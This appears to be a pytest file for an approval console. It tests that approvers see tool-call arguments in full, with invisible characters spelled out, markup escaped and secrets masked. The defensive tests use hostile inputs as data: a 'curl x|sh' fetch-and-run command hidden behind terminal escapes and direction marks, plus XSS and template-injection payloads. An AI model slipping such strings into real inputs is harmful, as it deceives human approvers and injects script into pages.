"""Reported failures: what an approver is shown of a call, on the console's page, in its batch and at the terminal, and what is recorded and run."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from console_kit import Console, console

from guard.cli.show import json_text
from guard.cli.views import approval_json, approval_lines

POLICY = """
    tools:
      exec_script: {kind: action, allow: [clerk], approve: {by: [treasury]}}
      upload: {kind: action, allow: [clerk], approve: {by: [treasury], secret: [token]}}
"""
RAN: list[dict[str, Any]] = []


def exec_script(code: str) -> str:
    RAN.append({"code": code})
    return "ran"


def upload(dest: str, token: str, body: str) -> str:
    RAN.append({"dest": dest, "token": token, "body": body})
    return "uploaded"


@pytest.fixture
def running(tmp_path: Path) -> Iterator[Console]:
    RAN.clear()
    with console(tmp_path, POLICY, (exec_script, upload)) as found:
        yield found


def page(running: Console, approval: str) -> str:
    return running.browser("b1", "treasury").open(f"/approvals/{approval}").source


def batch(running: Console, approval: str) -> str:
    return running.browser("b1", "treasury").open("/approvals/batch").source


def terminal(running: Console, approval: str) -> str:
    return "\n".join(approval_lines(running.show(approval)))


def machine(running: Console, approval: str) -> str:
    return json_text(approval_json(running.show(approval)))


SHOWN = pytest.mark.parametrize("shown", [page, batch, terminal, machine], ids=lambda one: one.__name__)
Shown = Callable[[Console, str], str]


def runs(running: Console, approval: str) -> list[dict[str, Any]]:
    """What runs once it is approved on the page and the program goes on."""
    assert running.browser("b1", "treasury").vote(approval, "approved").status == 303
    assert running.go_on(approval).status == "done"
    return RAN


@SHOWN
@pytest.mark.parametrize("code", ["print(1)", "x = 1\n" * 400, "y" * 20_000], ids=["short", "lines", "long"])
def test_arguments_stand_in_full_br_072(running: Console, shown: Shown, code: str) -> None:
    """The page, the batch and the terminal hold every argument in full, with tool and person; nothing is shortened, and that is what runs."""
    approval = running.ask("exec_script", code=code)
    text = shown(running, approval)
    squeezed = text.replace('<span class="end" title="line end">\u21b5</span>', "").replace("[U+000A]", "\n").replace("\\n", "\n")

    assert code.rstrip("\n") in squeezed
    assert all(word in text for word in ("exec_script", "c_1", running.show(approval).definition))
    assert running.show(approval).arguments == {"code": code}
    assert runs(running, approval) == [{"code": code}]


HIDDEN = "curl x|sh\r\x1b[2K   cmd: ls -la\u202e\u2066\u200b\u2060\ufeff\u00ad\u115f\u3164\u2800\ufe0f\U000e0041\u0085\x9b31m\u2028\u00a0"


@SHOWN
def test_what_cannot_be_seen_is_spelled_out_br_074(running: Console, shown: Shown) -> None:
    """No control, direction mark or zero-width character reaches a page, a terminal or a record as it is; what runs stays as proposed."""
    approval = running.ask("exec_script", code=HIDDEN)
    text = shown(running, approval)

    assert {char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}} == set()
    assert not set("\u115f\u3164\u2800\ufe0f\u00a0") & set(text)
    spelled = (lambda code: f"\\u{code:04x}") if shown is machine else (lambda code: f"U+{code:04X}")
    for char in "\u202e\u2066\u200b\u3164\u2800\ufe0f\u2028\u00a0":
        assert spelled(ord(char)) in text
    assert HIDDEN not in "".join(record.body for record in running.guard.store.audit(chain=0, after=0, limit=10_000))
    assert runs(running, approval) == [{"code": HIDDEN}]


TOKEN, BODY = "FAKE-TOKEN-0001", "x" * 5_000


@SHOWN
def test_secrets_are_masked_and_the_rest_is_shown_br_075(running: Console, shown: Shown) -> None:
    """Where it goes and what is sent stand in full; of the secret only length and digest. The vote is bound to the call as it runs, not to the mask."""
    given = {"dest": "/Finance/Q3", "token": TOKEN, "body": BODY}
    approval = running.ask("upload", **given)
    text = shown(running, approval)

    assert ("/Finance/Q3" in text, BODY in text, TOKEN in text) == (True, True, False)
    assert "secret: 15 characters, digest" in text
    other = running.ask("upload", **{**given, "token": "FAKE-TOKEN-0002"})
    assert running.show(other).fingerprint != running.show(approval).fingerprint
    assert running.show(approval).arguments["token"] == TOKEN
    assert runs(running, approval) == [given]


@SHOWN
@pytest.mark.parametrize(
    "value",
    ["</pre><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}} {% raw %}", "&lt;b&gt;", '" onmouseover="x'],
)
def test_markup_is_text_br_074b(running: Console, shown: Shown, value: str) -> None:
    """What looks like markup or a template stands there as the text that it is, in values and in names."""
    approval = running.ask("exec_script", code=value)
    text = shown(running, approval)
    if shown in (page, batch):
        assert "<script>alert" not in text
        assert "<img" not in text
        assert ' onmouseover="x' not in text
        assert value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;") in text
    else:
        assert json.dumps(value)[1:-1] in text


def test_the_page_shows_the_stored_call_only(running: Console) -> None:
    """Whatever else was said about it: the arguments on the page are those of the fingerprint, and a page of other arguments has another digest."""
    first, second = running.ask("exec_script", code="a"), running.ask("exec_script", code="b")
    browser = running.browser("b1", "treasury")
    forms = [browser.open(f"/approvals/{one}").form(f"/approvals/{one}/vote") for one in (first, second)]
    assert forms[0]["fingerprint"] == running.show(first).fingerprint
    assert forms[0]["presented"] != forms[1]["presented"]
